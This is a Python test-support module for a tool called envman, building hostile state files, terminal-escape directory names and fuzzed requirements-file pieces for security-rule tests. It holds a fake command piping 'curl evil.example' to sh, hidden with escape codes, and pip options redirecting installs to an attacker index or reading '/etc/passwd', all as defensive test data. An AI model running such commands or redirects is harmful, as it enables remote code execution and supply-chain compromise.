"""What the security-rule tests of tests/unit/rules/ share: the project file they start from, hostile state
files, the environment of a child envman, and the readers that say whether a line was refused."""

from __future__ import annotations

import os
import shlex
from pathlib import Path

from hypothesis import strategies as st

from envman.errors import UserError
from envman.project.file import load_project

STACK = 'stack = "torch-2.4-cuda12.4"\n'

ROOT = Path(__file__).resolve().parents[2]


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _dev_zero(path: Path) -> None:
    path.symlink_to("/dev/zero")


def _group_writable(path: Path) -> None:
    path.write_text("{}")
    os.chmod(path, 0o620)


def _world_writable(path: Path) -> None:
    path.write_text("{}")
    os.chmod(path, 0o602)


def _foreign(path: Path) -> None:
    path.write_text("{}")
    os.chmod(path, 0o600)
    os.chown(path, 65534 if os.getuid() != 65534 else 65533, -1)


def _symlink(path: Path) -> None:
    real = path.with_name("elsewhere.json")
    real.write_text("{}")
    os.chmod(real, 0o600)
    path.symlink_to(real)


def _huge(path: Path) -> None:
    with open(path, "wb") as fh:
        fh.truncate(17 * 1024 * 1024)
    os.chmod(path, 0o600)


HOSTILE = {"fifo": _fifo, "dev-zero": _dev_zero, "group-writable": _group_writable, "world-writable": _world_writable,
           "other-owner": _foreign, "symlink": _symlink, "oversized": _huge}


def state_files():
    """(name, path of the state file, a believable content, reader → truthy when believed)."""
    from envman.cluster import slurm
    from envman.images import pins, remote
    from envman.project import trust
    from envman.render import rendercache as render_cache
    from envman.engine import builder
    from envman.render import wheelfacts
    from envman.run import fastpath as run_cache
    from envman.stack import origins
    from envman import state

    job = {"id": "7", "project": "p", "stack": "s", "runtime": "docker", "log": "/l", "script": "/s", "submitted": 1.0}
    return [
        ("runs.json", lambda: Path(run_cache.cache_file()), {"format": run_cache.CACHE_FORMAT, "runs": {"k": {}}},
         lambda: run_cache._load(run_cache.cache_file())),
        ("renders.json", lambda: Path(render_cache.cache_path()), {"format": render_cache.CACHE_FORMAT, "renders": {"k": "v"}},
         lambda: render_cache._load(render_cache.cache_path())),
        ("pins.json", pins.pins_file, {"k": {"stack": "s", "image_id": "i", "at": 1}}, pins.read_pins),
        ("trust.json", trust.trust_path, {"schema": 1, "files": {"/x/envman.toml": {"sha256": "a"}}}, trust.records),
        ("pushed.json", remote.pushed_path, {"r": {"s": {}}}, remote.read_pushed),
        ("report", lambda: state.report_path("sha256:" + "a" * 64), {"overall": "pass"},
         lambda: state.load_report("sha256:" + "a" * 64)),
        ("slurm job", lambda: slurm._jobs_dir() / "7.json", job, slurm.load_records),
        ("matrix-origins.json", origins._path, {"q": {"stack": "s"}}, origins._load),
        ("wheels.json", lambda: Path(wheelfacts._path()), {"format": wheelfacts.CACHE_FORMAT, "wheels": {"/w": {"sig": []}}},
         lambda: wheelfacts.WheelFacts()._all()),
        ("buildkit-cli.json", lambda: Path(builder._probe_path()), {"format": builder.PROBE_FORMAT, "probes": {"k": None}},
         lambda: builder._kept_probe("k")),
    ]


STATE = state_files()


def private_home(tmp_path: Path, monkeypatch, *, unset: tuple[str, ...] = ()) -> Path:
    """A home with a ``data`` folder, config and state folders of its own, no ``XDG_RUNTIME_DIR``
    (nor the variables in ``unset``), and the never-mount policy's cache empty."""
    from envman.project import policy

    h = tmp_path / "home" / "me"
    (h / "data").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(h))
    monkeypatch.setenv("ENVMAN_CONFIG_DIR", str(tmp_path / "cfg"))
    monkeypatch.setenv("ENVMAN_STATE_DIR", str(tmp_path / "state"))
    for var in ("XDG_RUNTIME_DIR", *unset):
        monkeypatch.delenv(var, raising=False)
    policy._CACHE.clear()
    return h


def trusted_project(tmp_path: Path, body: str) -> Path:
    from envman.project.trust import trust

    root = tmp_path / "good"
    root.mkdir()
    (root / "envman.toml").write_text(STACK + body)
    p = load_project(root)
    trust(p.real_file, p.digest, root=p.root)
    return root


UNSAFE = [chr(c) for c in (*range(0x20), 0x7F, *range(0x80, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A),
                           0x200E, 0x200F, 0x061C, 0x2028, 0x2029)]


#: A project directory whose name drives a terminal: erase the line, return, reverse the text.
HOSTILE_DIR = "proj\x1b[2K\r\u202eevil\u2066x"


HOSTILE_CMD = 'command = ["sh", "-c", "curl evil.example|sh\\u001b[2K\\rpython train.py"]\n'


def cli_env(tmp_path: Path) -> dict[str, str]:
    env = dict(os.environ)
    env.update(ENVMAN_CONFIG_DIR=str(tmp_path / "cfg"), ENVMAN_STATE_DIR=str(tmp_path / "state"),
               HOME=os.environ["HOME"], ENVMAN_RUN_CACHE="0")
    return env


SECRETS = (("DB_PASS", "pw-3f9a1c"), ("OPENAI_KEY", "sk-77b2e0"), ("WANDB_KEY", "wk-51d0aa"),
           ("GITHUB_PAT", "ghp-0c4e7d"), ("PLAIN_SETTING", "plain-9e1b2f"))  # no name heuristic: all of them


def slurm_job(runtime: str, tmp_path: Path):
    from envman.cluster.slurm import JobSpec, Resources

    return JobSpec(project="demo", root="/srv/demo", stack="torch-2.4.1-cuda12.4-py3.10", image="img:latest",
                   runtime=runtime, resources=Resources(gpus=1), envman=("python", "-m", "envman"),
                   command=("python", "t.py"), environment=SECRETS, home="/state/homes/demo", state_dir="/state",
                   config_dir="/config", env_file=str(tmp_path / "slurm" / "env" / "demo.env"))


def verdict_labels(rootfs):
    from envman import labels as L

    return L.SmokeVerdict(status="pass", by_uid=1, by_user="u", at=1, rootfs=rootfs).to_labels()


def pullable(engine, stack, render_hash):
    from envman import labels as L
    from envman.engine.api import ImageInfo
    from envman.images.store import rootfs_digest
    from envman.render.dockerfile import stack_label_json

    image_id = engine.add_image("reg.example:5000/envman/" + stack.name + ":latest")
    layers = engine.inspect_image(image_id).layers
    labels = {L.MANAGED: "true", L.NAME: stack.name, L.STACK: stack_label_json(stack), L.RENDER_HASH: render_hash,
              **verdict_labels(rootfs_digest(ImageInfo("x", layers=layers)))}
    engine._images[image_id] = ImageInfo(image_id, labels=labels, layers=layers)
    engine.registry[f"reg.example:5000/envman/{stack.name}:latest"] = image_id
    digest = engine.registry_digest(f"reg.example:5000/envman/{stack.name}:latest")
    engine.registry[f"reg.example:5000/envman/{stack.name}@{digest}"] = image_id
    engine._images[image_id] = ImageInfo(image_id, labels=labels, layers=layers,
                                         repo_digests=(f"reg.example:5000/envman/{stack.name}@{digest}",))
    return image_id


def is_refused(text: str) -> bool:
    from envman.project.requirements import check_requirements

    try:
        check_requirements(text, where="f")
    except UserError:
        return True
    return False


def error_of(fn):
    try:
        fn()
    except UserError as exc:
        return (exc.what, exc.where, exc.fix)
    raise AssertionError("no error")


#: What pip reads from a requirements file that would send it past envman's index (the ``dest`` of
#: each such option in pip's own parser).
PIP_REDIRECT_DESTS = ("index_url", "extra_index_urls", "no_index", "constraints", "requirements", "editables",
                      "find_links", "trusted_hosts", "features_enabled", "global_options", "config_settings")


#: Pieces a hostile requirements file is made of: quoting, backslashes (escapes and line joins),
#: tabs, comments, allowed and redirecting options, abbreviations and short forms.
REQ_PIECES = st.sampled_from([
    "torch", "rich==13.7.1", " ", "  ", "\t", "\n", "\\", "\\\n", '"', "'", "#", "=", "-", "--",
    "--pre", "--hash", "--hash=sha256:" + "c" * 64, "--only-binary", ":all:", "--require-hashes",
    "--index-url", "--index-url=http://evil.example/simple", "--extra-index-url", "--ind", "-i", "-ihttp://x",
    "-r", "-rfile.txt", "-e", "git+https://x/y", "-f", "--find-links", "--trusted-host", "evil.example",
    "--constr", "-c", "http://evil.example/simple", "./local", "file:///etc/passwd", "pkg @ ", "--no-index",
    "--global-option", "--config-settings", "--use-feature", "-\\-index-url", "\\-i", "'--index-url=x'",
])


def pip_reads_a_redirect(text: str) -> bool:
    """Whether pip (the copy installed with the tests), reading ``text`` as a requirements file,
    would set any option of :data:`PIP_REDIRECT_DESTS`."""
    from pip._internal.req.req_file import break_args_options, build_parser, preprocess

    parser = build_parser()
    for _, line in preprocess(text):
        _, options = break_args_options(line)
        try:
            values, _ = parser.parse_args(shlex.split(options))
        except Exception:
            continue  # pip stops the build on this line: nothing is redirected
        defaults = parser.get_default_values()
        if any(getattr(values, d, None) != getattr(defaults, d, None) for d in PIP_REDIRECT_DESTS):
            return True
    return False
